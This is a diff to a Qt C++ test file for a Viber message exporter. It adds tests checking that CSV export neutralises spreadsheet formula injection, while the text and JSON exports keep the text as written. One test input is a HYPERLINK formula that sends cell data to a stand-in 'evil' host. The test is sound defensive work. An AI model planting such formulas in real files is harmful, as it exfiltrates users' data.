@@ -8,6 +8,9 @@
 #include "workers/ExportViberCallsThread.h"
 #include "workers/ExtractMediaFilesThread.h"
 
+#include <QJsonArray>
+#include <QJsonDocument>
+#include <QJsonObject>
 #include <QRegularExpression>
 #include <QTemporaryDir>
 #include <QTest>
@@ -117,12 +120,12 @@ private slots:
         QTest::newRow("csv")
             << int(ExportMessagesThread::Csv)
             << QStringList{u"^date,send,person,number,content$"_s,
-                           u"^2014-01-31 09:30:05,1,Ann,\\+111,\"line one\r?$"_s,
+                           u"^2014-01-31 09:30:05,1,Ann,'\\+111,\"line one\r?$"_s,
                            u"^line two\"$"_s,
-                           u"^2014-01-31 09:30:05,0,\u05D3\u05E0\u05D4,\\+222,\"say \"\"hi\"\", all\"$"_s,
+                           u"^2014-01-31 09:30:05,0,\u05D3\u05E0\u05D4,'\\+222,\"say \"\"hi\"\", all\"$"_s,
                            u",0,,,"_s,
                            u",0,,,Missed Call"_s,
-                           u",0,Ann,\\+111,\\[IMAGE\\] look \U0001F600$"_s,
+                           u",0,Ann,'\\+111,\\[IMAGE\\] look \U0001F600$"_s,
                            u"^2014-02-02 00:00:01,1,,My Notes,\"note\rto self\"$"_s};
     }
     void textAndCsvRows()
@@ -157,6 +160,46 @@ private slots:
         ExportMessagesThread empty({chatless}, none, format);
         QCOMPARE(run(empty), Outcome::Succeeded);
         QVERIFY(!QFileInfo::exists(none));
+    }
+    // A spreadsheet opening the CSV runs no formula from a name or a text; the other
+    // formats keep the text as written.
+    void csvCellsAreNoFormulas_data()
+    {
+        QTest::addColumn<QString>("text");
+        QTest::addColumn<QString>("cell");
+        QTest::newRow("formula") << u"=HYPERLINK(\"http://evil/?\"&A1,\"Ann\")"_s
+                                 << u"\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"Ann\"\")\""_s;
+        QTest::newRow("plus") << u"+1+2"_s << u"'+1+2"_s;
+        QTest::newRow("minus") << u"-2+3"_s << u"'-2+3"_s;
+        QTest::newRow("at") << u"@SUM(A1)"_s << u"'@SUM(A1)"_s;
+        QTest::newRow("tab") << u"\t=1"_s << u"'\t=1"_s;
+        QTest::newRow("carriage return") << u"\r=1"_s << u"\"'\r=1\""_s;
+        QTest::newRow("inside") << u"a=b-c"_s << u"a=b-c"_s;
+        QTest::newRow("space first") << u" =1"_s << u" =1"_s;
+    }
+    void csvCellsAreNoFormulas()
+    {
+        QFETCH(QString, text);
+        QFETCH(QString, cell);
+        QTemporaryDir dir;
+        MessageFixture f;
+        _ViberPerson *sender = f.addPerson(text, u"+49"_s);
+        f.addMessage(f.addChat(QString(), {sender}), ViberMsgTypeText, kDay1, false, text)->person = sender;
+        const QString csv = dir.filePath(u"out.csv"_s);
+        const QString txt = dir.filePath(u"out.txt"_s);
+        const QString json = dir.filePath(u"out.json"_s);
+        for (const auto &[path, format] :
+             {std::pair{csv, int(ExportMessagesThread::Csv)}, std::pair{txt, int(ExportMessagesThread::Text)},
+              std::pair{json, int(ExportMessagesThread::Json)}}) {
+            ExportMessagesThread worker(f.messages(), path, format);
+            QCOMPARE(run(worker), Outcome::Succeeded);
+        }
+        QCOMPARE(readText(csv).section(u'\n', 1, -2), u"2014-01-31 09:30:05,0,%1,'+49,%1"_s.arg(cell));
+        QVERIFY(readText(txt).contains(QString(text).replace(u'\r', u' ')));
+        const QJsonArray chats = QJsonDocument::fromJson(testsupport::readFile(json)).array();
+        const QJsonObject message = chats[0][u"messages"_s][0].toObject();
+        QCOMPARE(message[u"text"_s].toString(), text);
+        QCOMPARE(message[u"sender"_s][u"name"_s].toString(), text);
     }
     void htmlPagesAndIndex()
     {
